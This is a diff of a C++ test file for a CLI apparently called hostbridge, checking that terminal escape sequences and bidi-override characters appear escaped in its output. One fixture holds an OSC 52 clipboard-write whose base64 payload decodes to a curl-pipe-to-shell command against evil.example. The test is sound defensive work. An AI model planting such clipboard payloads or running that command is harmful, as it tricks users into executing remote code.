@@ -5,11 +5,7 @@
 // audit, list and the error messages. Each must show visible escapes
 // (`\x1b`, `\u202e`) and never the raw bytes; approve shows a file that is
 // not plain text as a hex dump with its size and SHA-256.
-#include <pty.h>
-#include <sys/wait.h>
-#include <filesystem>
 #include <sstream>
-#include <thread>
 
 #include <gtest/gtest.h>
 
@@ -91,7 +87,7 @@ class NoRaw : public ::testing::Test {
         if (yes) args.push_back("--yes");
         return home.hostbridge(args);
     }
-    TempRoot root;
+    TempDir root{"cli"};
     Home home{root.path()};
     Project project{root.path(), "demo-app"};
 };
@@ -110,7 +106,7 @@ TEST_F(NoRaw, ApproveShowsTheHiddenCommand) {
         << run.out;
     // The hidden bytes, wherever the 16-byte rows happen to split them.
     std::string hex;
-    for (const std::string& line : lines_of(run.out)) {
+    for (const std::string& line : split_lines(run.out)) {
         if (!line.starts_with("+ 000")) continue;
         const auto bar = line.find('|');
         std::istringstream words(line.substr(11, bar - 11));
@@ -199,7 +195,7 @@ TEST_F(NoRaw, AuditShowsEveryFieldVisiblyWithTheRequestName) {
     Ran table = home.hostbridge({"audit", "--slug", "demo-app"});
     ASSERT_EQ(table.code, 0) << table.err;
     expect_no_raw(table.out, "audit table");
-    EXPECT_TRUE(contains(lines_of(table.out).at(0), "REQUEST")) << table.out;
+    EXPECT_TRUE(contains(split_lines(table.out).at(0), "REQUEST")) << table.out;
     EXPECT_TRUE(contains(table.out, "2026-ping-touch")) << table.out;
     EXPECT_TRUE(contains(table.out, "\\u202eapi\\u2069")) << table.out;
     EXPECT_TRUE(contains(table.out, "#\\r\\x1b[K+echo")) << table.out;
@@ -207,7 +203,7 @@ TEST_F(NoRaw, AuditShowsEveryFieldVisiblyWithTheRequestName) {
     Ran json = home.hostbridge({"audit", "--slug", "demo-app", "--json", "--tail", "1"});
     ASSERT_EQ(json.code, 0) << json.err;
     expect_no_raw(json.out, "audit --json");
-    auto event = nlohmann::json::parse(lines_of(json.out).at(0));
+    auto event = nlohmann::json::parse(split_lines(json.out).at(0));
     EXPECT_EQ(event["arg"], kRlo + "api" + kPdi);  // the same value, escaped
     EXPECT_EQ(event["reason"], "bad name " + kHidden + kTrojan);
     EXPECT_EQ(home.hostbridge({"audit", "--slug", "demo-app", "--verify"}).code, 0);
@@ -233,24 +229,10 @@ TEST_F(NoRaw, ListShowsTheLastEventVisibly) {
 // host: an OSC 52 clipboard write of a command, an erase-line and a lone CR
 // in the output and the reason. On a terminal none of it arrives raw.
 TEST_F(NoRaw, TheRequestClientOnATerminalShowsAForgedAnswerVisibly) {
-    const std::string requests = project.spool() + "/requests";
     const std::string osc52 = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\x07";
-    int master = -1;
-    const pid_t pid = ::forkpty(&master, nullptr, nullptr, nullptr);
-    ASSERT_GE(pid, 0);
-    if (pid == 0) {
-        for (const auto& e : home.env()) ::putenv(::strdup(e.c_str()));
-        const std::string bin = std::string(HB_BIN_DIR) + "/hostbridge";
-        ::execl(bin.c_str(), bin.c_str(), "request", "--project-dir", project.dir.c_str(),
-                "--timeout", "30", "status", static_cast<char*>(nullptr));
-        ::_exit(127);
-    }
-    std::string name;
-    for (int i = 0; i < 3000 && name.empty(); ++i) {
-        for (const auto& entry : std::filesystem::directory_iterator(requests))
-            name = entry.path().filename().string();
-        if (name.empty()) std::this_thread::sleep_for(std::chrono::milliseconds(10));
-    }
+    Interactive terminal(
+        home.command({"request", "--project-dir", project.dir, "--timeout", "30", "status"}));
+    const std::string name = wait_for_json(project.spool() + "/requests", std::chrono::seconds(30));
     ASSERT_FALSE(name.empty());
     const nlohmann::json forged = {{"request", name},
                                    {"state", "failed"},
@@ -263,13 +245,9 @@ TEST_F(NoRaw, TheRequestClientOnATerminalShowsAForgedAnswerVisibly) {
                                    {"reason", "ok\r\x1b[2K" + osc52},
                                    {"output", "all good\n" + osc52 + "\x1b[2K\rhidden\n"},
                                    {"log", nullptr}};
-    write_file(project.spool() + "/responses/" + name + ".response.json", forged.dump());
-    std::string shown;
-    char buf[4096];
-    for (ssize_t n; (n = ::read(master, buf, sizeof buf)) > 0;) shown.append(buf, n);
-    int status = 0;
-    ::waitpid(pid, &status, 0);
-    ::close(master);
+    publish_response(project.spool(), name, forged.dump());
+    terminal.finish();
+    std::string shown = terminal.shown();
     // The terminal's own line ends (CR LF) are not the agent's.
     for (std::size_t at; (at = shown.find("\r\n")) != std::string::npos;) shown.erase(at, 1);
     EXPECT_NE(shown.find("\\x1b]52"), std::string::npos) << client::visible_text(shown);
